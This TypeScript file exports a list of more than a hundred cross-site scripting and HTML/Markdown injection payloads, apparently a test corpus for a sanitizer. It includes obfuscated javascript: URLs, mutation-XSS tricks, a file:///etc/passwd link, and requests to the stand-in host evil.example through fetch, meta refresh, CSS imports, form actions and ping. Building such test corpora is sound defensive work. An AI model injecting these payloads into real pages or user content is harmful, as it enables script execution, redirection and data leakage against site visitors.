/** A hundred and more ways to get code to run, something foreign loaded, or out of one's place, as texts of a shop. */
const SCRIPTS = ['alert(1)', 'fetch("//evil.example")'];
const EVENTS =
  'onload onerror onclick onmouseover onfocus onanimationstart ontoggle onpointerenter oncut onwheel'.split(
    ' ',
  );
const TAGS =
  'img svg video audio body input details iframe object marquee button select textarea keygen isindex math form'.split(
    ' ',
  );
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  '//evil.example/',
  '\\\\evil.example\\x',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
];

export const ATTACKS: readonly string[] = [
  ...SCRIPTS.flatMap((script) => [
    `<script>${script}</script>`,
    `<scr<script>ipt>${script}</scr</script>ipt>`,
    `<script src="data:,${script}"></script>`,
    `<svg><script>${script}</script></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${script}></style></mglyph></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
    `<!--><img src=x onerror=${script}>-->`,
    `<![CDATA[<script>${script}</script>]]>`,
    `"><img src=x onerror=${script}>`,
    `<textarea><img src=x onerror=${script}></textarea>`,
    `<template><img src=x onerror=${script}></template>`,
    `<xmp><img src=x onerror=${script}></xmp>`,
    `<title></title><img src=x onerror=${script}>`,
    `<img src=\`x\` onerror=${script}//>`,
    `<img """><script>${script}</script>">`,
    `<p title="<script>">${script}</p`,
  ]),
  ...EVENTS.map((event) => `<p ${event}="alert(1)">x</p>`),
  ...EVENTS.map((event) => `<a href="/x" ${event.toUpperCase()}=alert(1)>x</a>`),
  ...TAGS.map(
    (tag) => `<${tag} src=x href=x onload=alert(1) onerror=alert(1) onfocus=alert(1) autofocus></${tag}>`,
  ),
  ...SCHEMES.map((scheme) => `<a href="${scheme}">x</a>`),
  ...SCHEMES.map((scheme) => `<img src="${scheme}">`),
  // As Markdown writes them.
  ...SCHEMES.map((scheme) => `[x](<${scheme}>)`),
  ...SCHEMES.map((scheme) => `![x](<${scheme}>)`),
  '[x](javascript:alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](x"onerror="alert(1))',
  '![x](x "t\\" onerror=\\"alert(1)")',
  '`<script>alert(1)</script>`<script>alert(1)</script>',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/a.css";</style>',
  '<p style="background:url(https://evil.example/)">x</p>',
  '<p id="app" class="modal" style="position:fixed;inset:0">x</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
  '<embed src="javascript:alert(1)">',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<img srcset="https://evil.example/p.png 1x">',
  '<img src="pictures/content/0123456789abcdef0123456789abcdef.png" onerror="alert(1)">',
  '<img src="pictures/content/0123456789abcdef0123456789abcdef.png&quot; onerror=&quot;alert(1)">',
  '<a href="x" rel="opener" target="_blank" ping="https://evil.example/">x</a>',
];
